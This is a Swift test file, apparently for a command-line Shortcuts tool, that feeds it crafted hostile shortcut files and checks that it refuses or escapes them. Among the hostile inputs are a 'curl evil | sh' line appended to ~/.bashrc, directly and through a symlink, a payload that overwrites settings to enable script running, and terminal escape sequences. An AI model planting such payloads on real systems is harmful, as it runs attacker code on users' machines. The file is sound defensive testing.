import Foundation
import PropertyList
import ShortcutFormat
import ShortcutsTestSupport
import Testing

/// Files made to break things, run through the built `shortcuts` as a hostile download would be.
struct CraftedInputTests {
    /// A Text action whose only variable's range is `{Int.max, 1}`, which overflowed when checked.
    static let overflowingRange: Data = {
        let token: PropertyListValue = .dictionary([
            "Value": .dictionary([
                "string": .string("a\u{FFFC}b"),
                "attachmentsByRange": .dictionary(["{9223372036854775807, 1}": .dictionary(["Type": .string("ExtensionInput")])]),
            ]),
            "WFSerializationType": .string("WFTextTokenString"),
        ])
        let action: PropertyListValue = .dictionary([
            "WFWorkflowActionIdentifier": .string("is.workflow.actions.gettext"),
            "WFWorkflowActionParameters": .dictionary(["WFTextActionText": token]),
        ])
        let root: PropertyListValue = .dictionary(["WFWorkflowActions": .array([action]), "WFWorkflowClientVersion": .string("2302")])
        return PropertyList.encode(root, format: .binary)
    }()

    @Test func anOverflowingVariableRangeIsAnErrorNamingTheActionAndParameter() throws {
        let shell = try CommandRunner()
        let file = try shell.write(Self.overflowingRange, to: "Crafted.shortcut")
        let run = try shell.run(["run", file])
        #expect(run.status == 1, "\(run.error)")
        #expect(
            run.error.contains(
                "action 1 (is.workflow.actions.gettext, \"Text\"), parameter WFTextActionText: the text's variable at range"),
            "\(run.error)")
        for command in [["view", file], ["decompile", file]] {
            let result = try shell.run(command)
            #expect(result.status == 0, "\(command[0]) crashed or failed: \(result.error)")
        }
    }

    /// The audit's attack: a downloaded shortcut that turns "Allow Running Scripts" on by
    /// overwriting the library's settings, or appends to `~/.bashrc` (also through a link).
    @Test func aShortcutCantChangeTheLibrarysSettingsOrTheShellsStartupFiles() throws {
        let shell = try CommandRunner()
        let user = shell.directory.path + "/user"
        try FileManager.default.createDirectory(atPath: user, withIntermediateDirectories: true)
        try FileManager.default.createDirectory(atPath: shell.home, withIntermediateDirectories: true)
        shell.extraEnvironment["HOME"] = user
        try Data("# mine\n".utf8).write(to: URL(fileURLWithPath: user + "/.bashrc"))
        try FileManager.default.createSymbolicLink(atPath: user + "/notes.txt", withDestinationPath: user + "/.bashrc")
        func text(_ string: String) -> ParameterValue { .text(TokenString(segments: [.literal(string)])) }
        let attacks: [(String, WorkflowAction, String)] = [
            (
                "settings",
                WorkflowAction(
                    identifier: "is.workflow.actions.documentpicker.save",
                    parameters: [
                        "WFInput": text(#"{"version": 1, "allowRunningScripts": true}"#), "WFAskWhereToSave": .plain(.boolean(false)),
                        "WFFileDestinationPath": text(shell.home + "/settings.json"), "WFSaveFileOverwrite": .plain(.boolean(true)),
                    ]), "WFFileDestinationPath"
            ),
            (
                "bashrc",
                WorkflowAction(
                    identifier: "is.workflow.actions.file.append",
                    parameters: ["WFInput": text("curl evil | sh"), "WFFilePath": text("~/.bashrc")]), "WFFilePath"
            ),
            (
                "link",
                WorkflowAction(
                    identifier: "is.workflow.actions.file.append",
                    parameters: ["WFInput": text("curl evil | sh"), "WFFilePath": text("~/notes.txt")]), "WFFilePath"
            ),
        ]
        for (name, action, parameter) in attacks {
            let file = try shell.write(ShortcutFile.write(Workflow(actions: [action]), format: .binary), to: "\(name).shortcut")
            let result = try shell.run(["run", file])
            #expect(result.status == 1, "\(name): \(result.output)")
            #expect(result.error.contains("action 1 (\(action.identifier)"), "\(name): \(result.error)")
            #expect(result.error.contains("parameter \(parameter): can't write"), "\(name): \(result.error)")
            #expect(result.error.contains("a shortcut may not change"), "\(name): \(result.error)")
        }
        #expect(try String(contentsOfFile: user + "/.bashrc", encoding: .utf8) == "# mine\n")
        #expect(try shell.run(["settings"]).output.contains("Allow Running Scripts: off"))
        // An ordinary file is written where the shortcut was allowed.
        let allowed = WorkflowAction(
            identifier: "is.workflow.actions.file.append", parameters: ["WFInput": text("fine"), "WFFilePath": text("~/log.txt")])
        let file = try shell.write(ShortcutFile.write(Workflow(actions: [allowed]), format: .binary), to: "fine.shortcut")
        #expect(try shell.run(["run", file, "--allow-folder", user]).status == 0)
        #expect(try String(contentsOfFile: user + "/log.txt", encoding: .utf8).contains("fine"))
    }

    /// What a file puts into an error is shown escaped and bounded: an action identifier of
    /// 100,000 characters with terminal escapes in it can't retitle the terminal or flood it.
    @Test func errorsQuoteFilesEscapedAndBounded() throws {
        let shell = try CommandRunner()
        let identifier = "evil\u{1B}]0;owned\u{07}" + String(repeating: "x", count: 100_000)
        let file = try shell.write(
            ShortcutFile.write(Workflow(actions: [WorkflowAction(identifier: identifier)]), format: .binary), to: "Evil.shortcut")
        let result = try shell.run(["run", file])
        #expect(result.status == 1)
        #expect(!result.error.contains("\u{1B}") && !result.error.contains("\u{07}"), "a raw control character reached the terminal")
        #expect(result.error.contains(#"evil\u{1B}]0;owned\u{7}"#), "\(result.error.prefix(300))")
        #expect(result.error.utf8.count < 10_000, "\(result.error.utf8.count) bytes of error")
        #expect(result.error.contains("characters left out)"))
    }

    /// `compile` never writes a file its own reader would refuse: values as deep as text allows
    /// nest deeper than a property list may once wrapped in the file's structure.
    @Test func compileWritesNothingItCantReadBack() throws {
        let shell = try CommandRunner()
        let source = try shell.write(
            Data(("List " + String(repeating: "[", count: 510) + "1" + String(repeating: "]", count: 510) + "\n").utf8), to: "Deep.sct")
        let result = try shell.run(["compile", source, "-o", shell.directory.path + "/Deep.shortcut"])
        #expect(result.status == 1)
        #expect(result.error.contains("compiles to a file that can't be read back"), "\(result.error)")
        #expect(result.error.contains("nest deeper than 512 levels"), "\(result.error)")
        #expect(!FileManager.default.fileExists(atPath: shell.directory.path + "/Deep.shortcut"))
    }

    /// Names that would forge lines or colours in `list`, logs and terminals are refused, and the
    /// refusal shows them escaped.
    @Test func namesWithControlCharactersAreRefused() throws {
        let shell = try CommandRunner()
        let hello = BuiltProducts.packageRoot.appendingPathComponent("Examples/Hello.shortcut").path
        for (option, value, shown) in [
            ("--name", "Evil\nName", #""Evil\nName""#), ("--name", "A\u{1B}[31mred", #""A\u{1B}[31mred""#),
            ("--folder", "W\tork", #""W\tork""#),
        ] {
            let result = try shell.run(["import", hello, option, value, "--no-interaction"])
            #expect(result.status == 1, "\(option) \(shown)")
            #expect(result.error.contains(shown) && result.error.contains("control characters"), "\(result.error)")
            #expect(!result.error.contains("\u{1B}") && result.error.split(separator: "\n").count == 1, "\(result.error)")
        }
        #expect(try shell.run(["list"]).output.isEmpty)
    }

    /// `-o`, `--in-place` and `export --replace` keep the replaced file's permissions and
    /// refuse to replace a symbolic link unless `--follow`.
    @Test func replacedFilesKeepTheirPermissionsAndLinksAreRefused() throws {
        let shell = try CommandRunner()
        let hello = BuiltProducts.packageRoot.appendingPathComponent("Examples/Hello.shortcut").path
        let folder = shell.directory.path
        func mode(_ path: String) throws -> Int {
            try #require(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
        }
        // A private file stays private when an output replaces it.
        try Data("old".utf8).write(to: URL(fileURLWithPath: folder + "/private.txt"))
        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: folder + "/private.txt")
        #expect(try shell.run(["run", hello, "-o", folder + "/private.txt"]).status == 0)
        #expect(try String(contentsOfFile: folder + "/private.txt", encoding: .utf8) == "Hello, World!")
        #expect(try mode(folder + "/private.txt") == 0o600)
        try Data("old".utf8).write(to: URL(fileURLWithPath: folder + "/shared.sct"))
        try FileManager.default.setAttributes([.posixPermissions: 0o640], ofItemAtPath: folder + "/shared.sct")
        #expect(try shell.run(["decompile", hello, "-o", folder + "/shared.sct"]).status == 0)
        #expect(try mode(folder + "/shared.sct") == 0o640)

        // A link is refused, and the file it points to is untouched, unless --follow.
        try Data("keep".utf8).write(to: URL(fileURLWithPath: folder + "/target.txt"))
        try FileManager.default.createSymbolicLink(atPath: folder + "/link.txt", withDestinationPath: folder + "/target.txt")
        for command in [["run", hello, "-o", folder + "/link.txt"], ["decompile", hello, "-o", folder + "/link.txt"]] {
            let refused = try shell.run(command)
            #expect(refused.status == 1, "\(command[0])")
            #expect(refused.error.contains("is a symbolic link; give --follow"), "\(refused.error)")
        }
        #expect(try String(contentsOfFile: folder + "/target.txt", encoding: .utf8) == "keep")
        #expect(try shell.run(["run", hello, "-o", folder + "/link.txt", "--follow"]).status == 0)
        #expect(try String(contentsOfFile: folder + "/target.txt", encoding: .utf8) == "Hello, World!")
        let link = try FileManager.default.destinationOfSymbolicLink(atPath: folder + "/link.txt")
        #expect(link == folder + "/target.txt")
    }
}
